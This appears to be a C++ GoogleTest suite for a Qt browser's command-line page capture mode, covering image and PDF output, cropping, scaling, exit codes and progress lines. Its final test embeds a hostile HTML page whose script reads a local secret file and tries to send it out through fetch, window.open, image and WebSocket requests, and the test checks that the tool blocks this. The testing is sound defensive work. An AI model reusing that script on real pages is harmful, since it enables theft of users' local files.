#include "app/CZelvaneApp.h"
#include "app/MainCommands.h"
#include "app/MainWnd.h"
#include "capture/HtmlCaptureImageWnd.h"
#include "tests/app/TestPages.h"
#include "tests/support/TestHttpServer.h"

#include <QCoreApplication>
#include <QDir>
#include <QFile>
#include <QImage>
#include <QProcess>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTemporaryDir>

#include <cstdlib>

#include <gtest/gtest.h>
#include <sys/mount.h>

namespace {

constexpr int kRows = 3000;
constexpr int kRunMs = 240000;

struct ProgramRun {
    int status = -1;
    QString out;
    QString err;
};

// The program as a script starts it: no display, no window system named, stderr not a terminal.
ProgramRun RunProgram(const QStringList& args) {
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    for (const char* name : {"DISPLAY", "WAYLAND_DISPLAY", "QT_QPA_PLATFORM"})
        env.remove(QString::fromUtf8(name));
    QProcess program;
    program.setProcessEnvironment(env);
    QSignalSpy finished(&program, &QProcess::finished);
    program.start(QCoreApplication::applicationDirPath() + QStringLiteral("/zelvane"), args);
    // The event loop runs meanwhile: the pages are served from this process.
    if (!finished.wait(kRunMs)) {
        program.kill();
        program.waitForFinished();
        return {};
    }
    return {program.exitStatus() == QProcess::NormalExit ? program.exitCode() : -1,
            QString::fromUtf8(program.readAllStandardOutput()),
            QString::fromUtf8(program.readAllStandardError())};
}

// Every row its own colour, so that a lost, doubled or shifted row shows.
QByteArray RowCodedPage() {
    QByteArray html = "<!doctype html><body style='margin:0'>";
    for (int y = 0; y < kRows; ++y)
        html += QStringLiteral("<div style='height:1px;background:rgb(%1,%2,90)'></div>")
                    .arg(y & 0xFF)
                    .arg(y >> 8)
                    .toUtf8();
    return html;
}

// Lines of words with room between the paragraphs: a text layer off its ink finds blank rows.
QByteArray TextPage() {
    QByteArray html = "<!doctype html><meta charset=utf-8><body style='margin:20px;"
                      "font:24px/36px sans-serif'>";
    for (int i = 0; i < 40; ++i)
        html += QStringLiteral("<p>Paragraph %1: the quick brown fox jumps over the lazy dog.</p>")
                    .arg(i)
                    .toUtf8();
    return html;
}

// Runs a tool to its end; true when it exits with 0.
bool Tool(const QString& program, const QStringList& args, QByteArray* out = nullptr) {
    QProcess tool;
    tool.start(program, args);
    if (!tool.waitForFinished(60000) || tool.exitStatus() != QProcess::NormalExit)
        return false;
    if (out)
        *out = tool.readAllStandardOutput();
    return tool.exitCode() == 0;
}

QImage Rgb(const QImage& image) {
    return image.convertToFormat(QImage::Format_RGB32);
}

QString PdfInfo(const QString& path) {
    QProcess info;
    info.start(QStringLiteral("pdfinfo"), {path});
    info.waitForFinished(30000);
    return QString::fromUtf8(info.readAllStandardOutput());
}

class CaptureCommandTest : public ::testing::Test {
  protected:
    // The same page through the main window's F3, once for the suite.
    static void SetUpTestSuite() {
        s_server = new TestHttpServer;
        s_server->AddFile("/rows.html", RowCodedPage(), "text/html");
        s_server->AddFile("/text.html", TextPage(), "text/html; charset=utf-8");
        CZelvaneApp app;
        app.InitApplication();
        app.InitInstance();
        MainWnd* wnd = app.MainWindow();
        QSignalSpy loaded(wnd, &MainWnd::DocumentCompleted);
        ASSERT_TRUE(loaded.wait(60000)); // the start page
        loaded.clear();
        wnd->NavigateTo(Url());
        ASSERT_TRUE(loaded.wait(60000));
        wnd->OnCommand(ID_CAPTURE, 0);
        s_f3 = new QImage(Rgb(wnd->CaptureView()->Image()));
        app.ExitInstance(0);
    }
    static void TearDownTestSuite() {
        delete s_server;
        delete s_f3;
    }
    static QString Url() { return s_server->Url(QStringLiteral("/rows.html")); }
    QString Out(const QString& name) const { return m_dir.filePath(name); }

    static TestHttpServer* s_server;
    static QImage* s_f3;
    QTemporaryDir m_dir;
};
TestHttpServer* CaptureCommandTest::s_server = nullptr;
QImage* CaptureCommandTest::s_f3 = nullptr;

} // namespace

// Several pairs in one run, one per format: each holds F3's pixels.
TEST_F(CaptureCommandTest, EveryFormatHoldsTheRowsF3Gives) {
    ASSERT_EQ(s_f3->height(), kRows);
    for (int y : {0, 255, 256, 1023, 1024, kRows - 1})
        ASSERT_EQ(s_f3->pixel(10, y) & 0xFFFFFF, qRgb(y & 0xFF, y >> 8, 90) & 0xFFFFFF) << y;
    const ProgramRun run = RunProgram(
        {QStringLiteral("--capture"), Url(), QStringLiteral("--out"), Out(QStringLiteral("a.png")),
         QStringLiteral("--capture"), Url(), QStringLiteral("--out"), Out(QStringLiteral("a.bmp")),
         QStringLiteral("--capture"), Url(), QStringLiteral("--out"), Out(QStringLiteral("a.jpg")),
         QStringLiteral("--capture"), Url(), QStringLiteral("--out"),
         Out(QStringLiteral("a.pdf"))});
    ASSERT_EQ(run.status, 0) << run.err.toStdString();
    EXPECT_TRUE(run.out.isEmpty() && run.err.isEmpty()) << run.err.toStdString();
    EXPECT_EQ(Rgb(QImage(Out(QStringLiteral("a.png")))), *s_f3);
    EXPECT_EQ(Rgb(QImage(Out(QStringLiteral("a.bmp")))), *s_f3);
    const QImage jpeg(Out(QStringLiteral("a.jpg")));
    ASSERT_EQ(jpeg.size(), s_f3->size());
    for (int y : {3, 700, 2100})
        EXPECT_NEAR(qRed(jpeg.pixel(50, y)), qRed(s_f3->pixel(50, y)), 8) << y;
    const QString info = PdfInfo(Out(QStringLiteral("a.pdf")));
    EXPECT_TRUE(info.contains(QRegularExpression(QStringLiteral("Pages:\\s+3\\n"))))
        << info.toStdString();
    EXPECT_TRUE(info.contains(QLatin1String("(A4)"))) << info.toStdString();
}

TEST_F(CaptureCommandTest, PagesAndRowsCutTheKeptRows) {
    const ProgramRun run = RunProgram(
        {QStringLiteral("--capture"), Url(), QStringLiteral("--out"), Out(QStringLiteral("p.png")),
         QStringLiteral("--rows"), QStringLiteral("100,2148"), QStringLiteral("--pages"),
         QStringLiteral("--capture"), Url(), QStringLiteral("--out"), Out(QStringLiteral("q.bmp")),
         QStringLiteral("--rows=0,1030"), QStringLiteral("--pages"), QStringLiteral("--capture"),
         Url(), QStringLiteral("--out"), Out(QStringLiteral("s.png")),
         QStringLiteral("--auto-breaks")});
    ASSERT_EQ(run.status, 0) << run.err.toStdString();
    const QImage p1(Out(QStringLiteral("p001.png"))), p2(Out(QStringLiteral("p002.png")));
    EXPECT_EQ(Rgb(p1), s_f3->copy(0, 100, s_f3->width(), 1024));
    EXPECT_EQ(Rgb(p2), s_f3->copy(0, 1124, s_f3->width(), 1024));
    EXPECT_FALSE(QFile::exists(Out(QStringLiteral("p003.png"))));
    EXPECT_FALSE(QFile::exists(Out(QStringLiteral("p.png"))));
    const QImage q2 = Rgb(QImage(Out(QStringLiteral("q002.bmp"))));
    ASSERT_EQ(q2.height(), 1024);
    EXPECT_EQ(q2.copy(0, 0, q2.width(), 6), s_f3->copy(0, 1024, s_f3->width(), 6));
    EXPECT_EQ(q2.pixel(5, 6) & 0xFFFFFF, 0xFFFFFFu);
    EXPECT_EQ(q2.pixel(5, 1023) & 0xFFFFFF, 0xFFFFFFu);
    // No two rows alike, so no break moves: the pages one below the other, white below.
    const QImage scroll = Rgb(QImage(Out(QStringLiteral("s.png"))));
    ASSERT_EQ(scroll.height(), 3 * 1024);
    EXPECT_EQ(scroll.copy(0, 0, scroll.width(), kRows), *s_f3);
    EXPECT_EQ(scroll.pixel(5, kRows) & 0xFFFFFF, 0xFFFFFFu);
}

// At --scale 2 every document pixel is 2 x 2 pixels of F3's colour at ratio 1, and the PDF's
// words lie over their ink on the A4 page.
TEST_F(CaptureCommandTest, ScaleTwoKeepsTwiceThePixelsAndTheTextOverItsInk) {
    const ProgramRun run =
        RunProgram({QStringLiteral("--scale"), QStringLiteral("2"), QStringLiteral("--capture"),
                    Url(), QStringLiteral("--out"), Out(QStringLiteral("r.png")),
                    QStringLiteral("--capture"), s_server->Url(QStringLiteral("/text.html")),
                    QStringLiteral("--out"), Out(QStringLiteral("t.pdf"))});
    ASSERT_EQ(run.status, 0) << run.err.toStdString();
    const QImage rows = Rgb(QImage(Out(QStringLiteral("r.png"))));
    ASSERT_EQ(rows.size(), s_f3->size() * 2);
    for (int y = 0; y < rows.height(); ++y)
        ASSERT_EQ(rows.pixel(21, y), s_f3->pixel(10, y / 2)) << "pixel row " << y;

    const QString page = Out(QStringLiteral("page"));
    QByteArray boxes;
    ASSERT_TRUE(Tool(QStringLiteral("pdftoppm"),
                     {QStringLiteral("-r"), QStringLiteral("72"), QStringLiteral("-f"),
                      QStringLiteral("1"), QStringLiteral("-l"), QStringLiteral("1"),
                      QStringLiteral("-gray"), Out(QStringLiteral("t.pdf")), page}));
    ASSERT_TRUE(Tool(QStringLiteral("pdftotext"),
                     {QStringLiteral("-bbox"), QStringLiteral("-f"), QStringLiteral("1"),
                      QStringLiteral("-l"), QStringLiteral("1"), Out(QStringLiteral("t.pdf")),
                      QStringLiteral("-")},
                     &boxes));
    const QImage ink(page + QStringLiteral("-1.pgm"));
    ASSERT_FALSE(ink.isNull());
    const QRegularExpression word(QStringLiteral(
        R"re(xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)<)re"));
    int words = 0;
    for (const QRegularExpressionMatch& m : word.globalMatch(QString::fromUtf8(boxes))) {
        ++words;
        // At 72 dots per inch a point is a pixel.
        const QRect box = QRectF(QPointF(m.captured(1).toDouble(), m.captured(2).toDouble()),
                                 QPointF(m.captured(3).toDouble(), m.captured(4).toDouble()))
                              .toRect()
                              .intersected(ink.rect());
        int dark = 0;
        for (int y = box.top(); y <= box.bottom(); ++y)
            for (int x = box.left(); x <= box.right(); ++x)
                dark += qGray(ink.pixel(x, y)) < 128;
        EXPECT_GT(dark, box.width() * box.height() / 20) << m.captured(5).toStdString();
    }
    EXPECT_GT(words, 100);
}

TEST(CaptureCommand, HelpVersionAndBadLinesStartNoEngine) {
    const ProgramRun help = RunProgram({QStringLiteral("--help")});
    EXPECT_EQ(help.status, 0);
    EXPECT_TRUE(help.out.contains(QLatin1String("--capture ADDRESS --out FILE")));
    const ProgramRun version = RunProgram({QStringLiteral("--version")});
    EXPECT_EQ(version.status, 0);
    EXPECT_TRUE(version.out.startsWith(QLatin1String("zelvane "))) << version.out.toStdString();
    const ProgramRun shortHelp = RunProgram({QStringLiteral("-h")});
    EXPECT_EQ(shortHelp.status, 0);
    EXPECT_EQ(shortHelp.out, help.out);
    const ProgramRun bad = RunProgram({QStringLiteral("--capture"), QStringLiteral("a.org"),
                                       QStringLiteral("--out"), QStringLiteral("a.gif")});
    EXPECT_EQ(bad.status, 2);
    EXPECT_TRUE(bad.err.contains(QLatin1String("a.gif")));
    EXPECT_TRUE(bad.err.contains(QLatin1String("Usage:")));
    for (const char* scale : {"0", "5", "1.5", "two"}) {
        const ProgramRun badScale = RunProgram(
            {QStringLiteral("--scale"), QString::fromUtf8(scale), QStringLiteral("--capture"),
             QStringLiteral("a.org"), QStringLiteral("--out"), QStringLiteral("a.png")});
        EXPECT_EQ(badScale.status, 2) << scale;
        EXPECT_TRUE(badScale.err.contains(QLatin1String("--scale wants 1 to 4")) &&
                    badScale.err.contains(QLatin1String("Usage:")))
            << badScale.err.toStdString();
    }
    // Any other first word is a bad command line too, not a window (there is no display here).
    for (const char* word : {"--bogus", "foo", "-platform"}) {
        const ProgramRun unknown = RunProgram({QString::fromUtf8(word)});
        EXPECT_EQ(unknown.status, 2) << word;
        EXPECT_TRUE(
            unknown.err.contains(QStringLiteral("unknown argument: ") + QString::fromUtf8(word)) &&
            unknown.err.contains(QLatin1String("Usage:")))
            << unknown.err.toStdString();
    }
}

// Each failure is said on one line and the captures after it still run.
TEST(CaptureCommand, LoadAndCaptureFailuresExitWithOne) {
    QTcpServer closed, silent;
    ASSERT_TRUE(closed.listen(QHostAddress::LocalHost) && silent.listen(QHostAddress::LocalHost));
    const quint16 closedPort = closed.serverPort();
    closed.close();
    TestHttpServer nothing; // every path is 404 Not Found
    TestPages pages;
    QTemporaryDir dir;
    QStringList args = {QStringLiteral("--timeout"), QStringLiteral("3")};
    const auto capture = [&](const QString& address, const char* out) {
        args << QStringLiteral("--capture") << address << QStringLiteral("--out")
             << dir.filePath(QString::fromUtf8(out));
    };
    capture(QStringLiteral("127.0.0.1:%1/x.html").arg(closedPort), "a.png");
    capture(QStringLiteral("127.0.0.1:%1/x.html").arg(silent.serverPort()), "b.png");
    capture(pages.TooLarge(), "c.png");
    capture(nothing.Url(QStringLiteral("/gone.html")), "e.png");
    capture(pages.Tall(), "d.png");
    const ProgramRun run = RunProgram(args);
    EXPECT_EQ(run.status, 1);
    const QStringList lines = run.err.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    ASSERT_EQ(lines.size(), 4) << run.err.toStdString();
    EXPECT_TRUE(lines[0].contains(QLatin1String("CONNECTION_REFUSED"), Qt::CaseInsensitive) ||
                lines[0].contains(QLatin1String("refused"), Qt::CaseInsensitive))
        << lines[0].toStdString();
    EXPECT_TRUE(lines[1].contains(QLatin1String("within 3 seconds"))) << lines[1].toStdString();
    EXPECT_TRUE(
        lines[2].contains(QStringLiteral("캡쳐 오류!! 내부 오류로 화면 캡쳐에 실패했습니다.")) &&
        lines[2].endsWith(QStringLiteral("(20000 × 30000 픽셀)가 너무 커서 한 장의 그림에 담을 수 "
                                         "없습니다.")))
        << lines[2].toStdString();
    // The status and the address in plain words, not the text of the engine's error page.
    EXPECT_TRUE(lines[3].endsWith(QStringLiteral("HTTP 404 (Not Found): ") +
                                  nothing.Url(QStringLiteral("/gone.html"))))
        << lines[3].toStdString();
    EXPECT_EQ(QDir(dir.path()).entryList(QDir::Files), QStringList{QStringLiteral("d.png")});
    EXPECT_EQ(QImage(dir.filePath(QStringLiteral("d.png"))).size(), QSize(994, 3000));
}

// A folder that is missing, and a disk that fills up halfway: exit 3, nothing half-written.
TEST(CaptureCommand, UnwritableFilesExitWithThreeAndLeaveNothing) {
    TestPages pages;
    QTemporaryDir dir;
    const QString small = dir.filePath(QStringLiteral("small"));
    QDir().mkpath(small);
    const bool mounted =
        ::mount("tmpfs", small.toLocal8Bit().constData(), "tmpfs", 0, "size=6m") == 0;
    QStringList args = {QStringLiteral("--capture"), pages.Tall(), QStringLiteral("--out"),
                        dir.filePath(QStringLiteral("missing/a.bmp"))};
    if (mounted)
        args << QStringLiteral("--capture") << pages.Tall() << QStringLiteral("--pages")
             << QStringLiteral("--out") << small + QStringLiteral("/p.bmp");
    const ProgramRun run = RunProgram(args);
    EXPECT_EQ(run.status, 3);
    EXPECT_TRUE(run.err.contains(QLatin1String("missing/a.bmp"))) << run.err.toStdString();
    if (!mounted)
        GTEST_SKIP() << "no tmpfs could be mounted: the full disk is not tried";
    // The first page fits, the second does not: the first is not put in place either.
    EXPECT_TRUE(run.err.contains(QLatin1String("small/p002.bmp"))) << run.err.toStdString();
    EXPECT_TRUE(QDir(small).entryList(QDir::Files | QDir::Hidden).isEmpty())
        << QDir(small).entryList(QDir::Files | QDir::Hidden).join(QLatin1Char(' ')).toStdString();
    ::umount(small.toLocal8Bit().constData());
}

// On a terminal each capture has one progress line, rewritten in place, ending at all its rows.
TEST(CaptureCommand, ATerminalSeesOneProgressLinePerCapture) {
    TestPages pages;
    QTemporaryDir dir;
    QStringList command = {QCoreApplication::applicationDirPath() + QStringLiteral("/zelvane")};
    for (const char* name : {"a.bmp", "b.bmp"})
        command << QStringLiteral("--capture") << pages.Tall() << QStringLiteral("--out")
                << dir.filePath(QString::fromUtf8(name));
    QProcess terminal;
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.remove(QStringLiteral("QT_QPA_PLATFORM"));
    terminal.setProcessEnvironment(env);
    QSignalSpy finished(&terminal, &QProcess::finished);
    terminal.start(
        QStringLiteral("script"),
        {QStringLiteral("-qec"), command.join(QLatin1Char(' ')), QStringLiteral("/dev/null")});
    ASSERT_TRUE(finished.wait(kRunMs));
    EXPECT_EQ(terminal.exitCode(), 0);
    const QString shown = QString::fromUtf8(terminal.readAllStandardOutput());
    const QStringList lines = shown.split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
    ASSERT_EQ(lines.size(), 2) << shown.toStdString();
    for (const QString& line : lines)
        EXPECT_TRUE(line.startsWith(QLatin1Char('\r')) &&
                    line.endsWith(QLatin1String("tall.html: 3000 / 3000 rows")))
            << line.toStdString();
}

// A local page that asks for dialogs, reads the file beside it and tries to send it out: the
// capture goes on without a word, the page shows its own picture and style sheet, reads
// nothing and reaches nothing. The second capture, from the server, comes after every request
// the first page made.
TEST(CaptureCommand, AHostileLocalPageIsCapturedAndKeptInItsBox) {
    TestHttpServer server;
    server.AddFile("/after.html", "after", "text/html");
    QTemporaryDir dir;
    const auto write = [&](const char* name, const QByteArray& data) {
        QFile file(dir.filePath(QString::fromUtf8(name)));
        return file.open(QIODevice::WriteOnly) && file.write(data) == data.size();
    };
    QImage red(40, 40, QImage::Format_RGB32);
    red.fill(qRgb(255, 0, 0));
    ASSERT_TRUE(red.save(dir.filePath(QStringLiteral("red.png"))));
    ASSERT_TRUE(write("secret.txt", "TOP-SECRET"));
    ASSERT_TRUE(write("style.css", "body{margin:0;background:rgb(0,128,0)}"));
    const QByteArray out = server.Url(QStringLiteral("")).toUtf8();
    ASSERT_TRUE(write(
        "hostile.html",
        "<!doctype html><link rel=stylesheet href=style.css><img src=red.png "
        "style=display:block><div id=read style=width:40px;height:40px;background:blue></div>"
        "<script>alert('a');confirm('b');prompt('c');const out='" +
            out +
            "';let got='nothing';try{const x=new XMLHttpRequest();x.open('GET','secret.txt',"
            "false);x.send();got=x.responseText}catch(e){}"
            "if(got.includes('SECRET'))document.getElementById('read').style.background='red';"
            "fetch('secret.txt').then(r=>r.text()).then(t=>window.open(out+'/fetch-exfil?'+t));"
            "window.open(out+'/open-exfil?'+got);new Image().src=out+'/image-exfil?'+got;"
            "new WebSocket(out.replace('http','ws')+'/socket-exfil?'+got);</script>"));
    const ProgramRun run =
        RunProgram({QStringLiteral("--capture"), dir.filePath(QStringLiteral("hostile.html")),
                    QStringLiteral("--out"), dir.filePath(QStringLiteral("a.png")),
                    QStringLiteral("--capture"), server.Url(QStringLiteral("/after.html")),
                    QStringLiteral("--out"), dir.filePath(QStringLiteral("b.png"))});
    ASSERT_EQ(run.status, 0) << run.err.toStdString();
    EXPECT_TRUE(run.out.isEmpty() && run.err.isEmpty()) << run.err.toStdString();
    QList<QByteArray> requested = server.Requested();
    requested.removeAll("/favicon.ico"); // the second page's
    EXPECT_EQ(requested.join(' ').toStdString(), "/after.html");
    const QImage shot(dir.filePath(QStringLiteral("a.png")));
    ASSERT_FALSE(shot.isNull());
    EXPECT_EQ(shot.pixel(20, 20) & 0xFFFFFF, 0xFF0000u) << "the page's own picture";
    EXPECT_EQ(shot.pixel(20, 60) & 0xFFFFFF, 0x0000FFu) << "the secret was read";
    EXPECT_EQ(shot.pixel(500, 300) & 0xFFFFFF, 0x008000u) << "the page's own style sheet";
}
